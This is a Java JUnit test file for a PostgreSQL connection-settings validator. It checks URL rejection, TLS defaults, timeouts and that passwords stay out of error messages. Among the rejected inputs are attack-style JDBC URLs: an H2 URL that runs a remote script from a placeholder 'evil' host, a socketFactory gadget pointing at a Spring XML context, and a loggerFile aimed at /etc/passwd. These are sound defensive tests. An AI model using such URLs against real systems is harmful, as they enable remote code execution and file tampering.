package io.aurora.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.aurora.AuroraException;
import io.aurora.ExitCode;
import io.aurora.testing.TestServices;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.List;
import java.util.Properties;
import org.junit.jupiter.api.Test;

class PostgresSettingsTest {
  private static AuroraConfig config(String url) {
    return AuroraConfig.defaults().with(ConfigKeys.POSTGRES_URL, url);
  }

  @Test
  void onlyAPostgresqlUrlWithoutCredentialsOrDriverPlugInsIsAccepted() {
    for (String url : List.of("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:file:/tmp/x", "jdbc:sqlite:/tmp/x",
        "postgresql://db/aurora", "jdbc:postgresql:aurora", "JDBC:POSTGRESQL://db/aurora", "jdbc:postgresql://db", "jdbc:postgresql://db/",
        "jdbc:postgresql://me:hunter2@db/aurora", "jdbc:postgresql://db/aurora?password=hunter2", "jdbc:postgresql://db/aurora?user=me",
        "jdbc:postgresql://db/aurora?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=x",
        "jdbc:postgresql://db/aurora?sslpassword=hunter2", "jdbc:postgresql://db/aurora?loggerFile=/etc/passwd")) {
      assertThatThrownBy(() -> PostgresSettings.from(config(url)))
          .as(url)
          .isInstanceOfSatisfying(AuroraException.class, e -> assertThat(e.exitCode()).isEqualTo(ExitCode.BAD_INPUT))
          .hasMessageStartingWith("aurora.postgres.url")
          .hasMessageNotContaining("hunter2")
          .hasMessageNotContaining("RUNSCRIPT")
          .hasMessageNotContaining("\n");
    }
    assertThat(PostgresSettings.from(config("jdbc:postgresql://db:5432/aurora?ApplicationName=x&currentSchema=s")).orElseThrow().url())
        .isEqualTo("jdbc:postgresql://db:5432/aurora?ApplicationName=x&currentSchema=s");
    assertThat(PostgresSettings.from(config("jdbc:postgresql://a:5432,b:5433/aurora"))).isPresent();
    assertThat(PostgresSettings.from(AuroraConfig.defaults())).isEmpty();
    assertThat(PostgresSettings.from(config("  "))).isEmpty();
  }

  @Test
  void tlsIsVerifiedForARemoteHostUnlessConfiguredAndTimeoutsAreAlwaysSet() {
    PostgresSettings remote = PostgresSettings.from(config("jdbc:postgresql://db.example.com/aurora")).orElseThrow();
    assertThat(remote.sslMode()).isEqualTo("verify-full");
    PostgresSettings loopback = PostgresSettings.from(config("jdbc:postgresql://127.0.0.1:5432/aurora")).orElseThrow();
    assertThat(loopback.sslMode()).isEqualTo("prefer");
    PostgresSettings configured = PostgresSettings.from(config("jdbc:postgresql://db.example.com/aurora")
        .with(ConfigKeys.POSTGRES_SSL_MODE, "require").with(ConfigKeys.POSTGRES_SSL_ROOT_CERT, "/etc/ssl/ca.pem")
        .with(ConfigKeys.POSTGRES_LOCK_TIMEOUT, "3").with(ConfigKeys.POSTGRES_USER, "aurora")
        .with(ConfigKeys.POSTGRES_PASSWORD, "hunter2")).orElseThrow();
    Properties p = configured.driverProperties();
    assertThat(p.getProperty("sslmode")).isEqualTo("require");
    assertThat(p.getProperty("sslrootcert")).isEqualTo("/etc/ssl/ca.pem");
    assertThat(p.getProperty("connectTimeout")).isEqualTo("5");
    assertThat(p.getProperty("socketTimeout")).isEqualTo("330");
    assertThat(p.getProperty("options")).isEqualTo("-c lock_timeout=3000 -c statement_timeout=300000");
    assertThat(p.getProperty("password")).isEqualTo("hunter2");
    assertThat(configured.toString()).doesNotContain("hunter2");
    assertThatThrownBy(() -> PostgresSettings.from(config("jdbc:postgresql://db/aurora").with(ConfigKeys.POSTGRES_SSL_MODE, "sometimes")))
        .isInstanceOfSatisfying(AuroraException.class, e -> assertThat(e.exitCode()).isEqualTo(ExitCode.BAD_INPUT));
    assertThatThrownBy(() -> PostgresSettings.from(config("jdbc:postgresql://db/aurora").with(ConfigKeys.POSTGRES_LOCK_TIMEOUT, "0")))
        .isInstanceOfSatisfying(AuroraException.class, e -> assertThat(e.exitCode()).isEqualTo(ExitCode.BAD_INPUT));
  }

  @Test
  void theSessionTimeoutsReachTheRealServer() throws Exception {
    AuroraConfig config = config(TestServices.postgresUrl()).with(ConfigKeys.POSTGRES_USER, TestServices.postgresUser())
        .with(ConfigKeys.POSTGRES_PASSWORD, TestServices.postgresPassword()).with(ConfigKeys.POSTGRES_LOCK_TIMEOUT, "7")
        .with(ConfigKeys.POSTGRES_STATEMENT_TIMEOUT, "42");
    PostgresSettings settings = PostgresSettings.from(config).orElseThrow();
    try (Connection c = DriverManager.getConnection(settings.url(), settings.driverProperties()); Statement s = c.createStatement()) {
      try (ResultSet r = s.executeQuery("SHOW lock_timeout")) {
        r.next();
        assertThat(r.getString(1)).isEqualTo("7s");
      }
      try (ResultSet r = s.executeQuery("SHOW statement_timeout")) {
        r.next();
        assertThat(r.getString(1)).isEqualTo("42s");
      }
    }
  }
}
